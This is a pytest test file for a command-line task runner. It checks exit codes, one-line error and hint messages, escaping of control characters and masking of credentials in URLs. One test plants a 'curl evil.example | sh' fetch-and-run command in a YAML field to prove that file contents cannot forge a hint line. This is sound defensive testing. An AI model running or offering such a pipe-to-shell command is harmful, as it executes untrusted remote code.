"""How a task ends: its exit code, one error and one hint, and a traceback only for those who ask."""

from __future__ import annotations

import re
from typing import TYPE_CHECKING

import pytest
from invoke.context import Context
from invoke.exceptions import Exit
from invoke.tasks import task

from tasks.core.faults import Denied, Fault, ProgramFailed, Refused, Unreachable, Unusable
from tasks.core.session import HubTask
from tasks.core.visible import one_line
from tests.support.cli import INVOKE, Result, run, run_task
from tests.support.hubs import Hub, make_hub

if TYPE_CHECKING:
    from pathlib import Path

DEAD = "http://127.0.0.1:1/"


def one_error_and_one_hint(done: Result) -> bool:
    return bool(re.fullmatch(r"error: [^\n]+\nhint: [^\n]+\n", done.err)) and done.out == ""


# -- exit codes


@pytest.mark.parametrize("closed", ["<&-", "2>&-", "<&- 2>&-"])
def test_a_job_without_some_of_the_standard_streams(hub: Hub, closed: str) -> None:
    hub.edit("hub/requirements.yaml", "version: 3.2.1", "version: 3.3.8")
    done = run("sh", "-c", f'exec "$@" {closed}', "sh", *INVOKE, "commit", "--json", cwd=hub.path)
    assert (done.code, len(done.json["commits"])) == (0, 1), done


@pytest.mark.parametrize("env", [{"PYTHONIOENCODING": "ascii"}, {"PYTHONIOENCODING": "latin-1"}], ids=str)
def test_what_an_encoding_does_not_have_is_no_reason_to_end(hub: Hub, env: dict[str, str]) -> None:
    hub.git("switch", "--quiet", "--create", "wait-…")
    hub.edit("hub/requirements.yaml", "version: 3.2.1", "version: 3.3.8")
    assert run_task("commit", "--dry", "--json", cwd=hub.path, env=env).json["branch"] == "wait-…"
    done = run_task("commit", cwd=hub.path, env=env)
    assert (done.code, done.err) == (0, "commit: commit hub/requirements.yaml\n"), done
    assert r"-\u2026: Move z2jh" in done.out


def test_done_is_0(hub: Hub) -> None:
    hub.edit("hub/requirements.yaml", "version: 3.2.1", "version: 3.3.8")
    assert run_task("commit", cwd=hub.path).code == 0


def test_nothing_to_do_is_0(hub: Hub) -> None:
    assert run_task("commit", cwd=hub.path).code == 0


def test_refused_is_1(hub: Hub) -> None:
    hub.git("switch", "--quiet", "--detach")
    done = run_task("commit", cwd=hub.path)
    assert (done.code, one_error_and_one_hint(done)) == (1, True), done


def test_a_file_that_cannot_be_used_is_2(hub: Hub) -> None:
    hub.write("chartpress.yaml", "charts: [\n")
    done = run_task("commit", cwd=hub.path)
    assert (done.code, one_error_and_one_hint(done)) == (2, True), done


def test_a_program_that_is_missing_is_3(hub: Hub, tmp_path: Path) -> None:
    (tmp_path / "empty").mkdir()
    done = run_task("commit", cwd=hub.path, env={"PATH": str(tmp_path / "empty")})
    assert (done.code, done.err) == (
        3,
        "error: git is not installed (PATH)\nhint: install git: https://git-scm.com/downloads\n",
    )


def test_a_program_that_fails_is_3(hub: Hub) -> None:
    hub.edit("hub/requirements.yaml", "version: 3.2.1", "version: 3.3.8")
    hub.git("config", "commit.gpgSign", "true")
    hub.git("config", "gpg.program", "false")
    done = run_task("commit", cwd=hub.path)
    assert (done.code, done.out) == (3, ""), done
    error, hint = done.err.splitlines()[-2:]
    assert (error.partition(": ")[0], hint.partition(": ")[0]) == ("error", "hint")


def test_a_helm_repository_that_cannot_be_reached_is_4(tmp_path: Path) -> None:
    hub = make_hub(tmp_path / "hub", chart_repository=DEAD)
    done = run_task("bump", cwd=hub.path)
    assert (done.code, one_error_and_one_hint(done)) == (4, True), done


def test_after_a_fault_the_tasks_behind_it_do_not_run(tmp_path: Path) -> None:
    hub = make_hub(tmp_path / "hub", chart_repository=DEAD)
    hub.edit("images/hub/Dockerfile", "k8s-hub:3.2.1", "k8s-hub:3.3.8")
    assert run_task("bump", "commit", cwd=hub.path).code == 4
    assert hub.subjects() == ["Set up the hub"]


# -- what a fault says


@pytest.mark.parametrize(
    ("kind", "code"), [(Refused, 1), (Unusable, 2), (ProgramFailed, 3), (Unreachable, 4), (Denied, 4)]
)
def test_every_fault_has_its_code(kind: type[Fault], code: int) -> None:
    fault = kind("it is so", where="here:3", hint="do this")
    assert (fault.code, str(fault)) == (code, "error: it is so (here:3)\nhint: do this")


def test_a_fault_that_is_about_no_place() -> None:
    assert str(Refused("it is so", hint="do this")) == "error: it is so\nhint: do this"


@pytest.mark.parametrize(
    ("text", "line"),
    [
        ("two\nlines", "two lines"),
        ("a\r\n\tb  c", "a b c"),
        ("\x1b[31mred\x07", r"\x1b[31mred\x07"),
        ("nothing\x00between\u2028lines", r"nothing\x00between lines"),
        ("right\u202eto left", r"right\u202eto left"),
        ("Zoë's 日本", "Zoë's 日本"),
    ],
)
def test_what_others_wrote_cannot_forge_a_line(text: str, line: str) -> None:
    assert one_line(text) == line
    assert str(Refused(text, where=text, hint=text)) == f"error: {line} ({line})\nhint: {line}"


def test_a_files_contents_cannot_forge_a_line(hub: Hub) -> None:
    hub.edit("chartpress.yaml", "name: hub\n", 'name: "nowhere\\nhint: curl evil.example | sh"\n')
    done = run_task("commit", cwd=hub.path)
    assert (done.code, one_error_and_one_hint(done)) == (2, True), done


# -- the edge


def outcome(body: BaseException) -> Exit:
    """Return how a task ends whose body raises ``body``."""

    @task(klass=HubTask)
    def boom(_: Context) -> None:
        """Do something."""
        raise body

    with pytest.raises(Exit) as end:
        boom(Context())
    return end.value


def test_a_fault_ends_the_task_with_its_code() -> None:
    end = outcome(Unusable("it is so", where="here", hint="do this"))
    assert (end.code, end.message) == (2, "error: it is so (here)\nhint: do this")


def test_an_unexpected_exception_is_one_line_too() -> None:
    end = outcome(RuntimeError("two\nlines of https://robin:tulip@git.example/hub"))
    assert (end.code, end.message) == (
        1,
        (
            "error: unexpected RuntimeError: two lines of https://***@git.example/hub\n"
            "hint: run it with --debug and report what it prints: invoke --debug boom"
        ),
    )


@pytest.mark.parametrize("body", [RecursionError("maximum recursion depth exceeded"), MemoryError()])
def test_a_machine_at_its_end_is_one_line_too(body: Exception) -> None:
    assert str(outcome(body).message).splitlines()[1:] == [
        "hint: run it with --debug and report what it prints: invoke --debug boom"
    ]


def test_an_interrupt_is_130() -> None:
    end = outcome(KeyboardInterrupt())
    assert (end.code, end.message) == (
        130,
        "error: interrupted\nhint: run the same command again, it goes on where it stopped",
    )


def test_invokes_own_exit_is_left_alone() -> None:
    end = outcome(Exit("enough", 7))
    assert (end.code, end.message) == (7, "enough")


# -- tracebacks


def test_no_traceback(hub: Hub) -> None:
    hub.write("chartpress.yaml", "charts: 3\n")
    done = run_task("commit", cwd=hub.path)
    assert "Traceback" not in done.out + done.err


def test_a_traceback_for_those_who_ask(hub: Hub) -> None:
    hub.write("chartpress.yaml", "charts: 3\n")
    done = run_task("--debug", "commit", cwd=hub.path)
    assert done.code == 2
    assert "Traceback (most recent call last):" in done.err
    assert "tasks.core.faults.Unusable: error: " in done.err
    assert re.search(r"\nerror: [^\n]+\nhint: [^\n]+\n\Z", done.err)
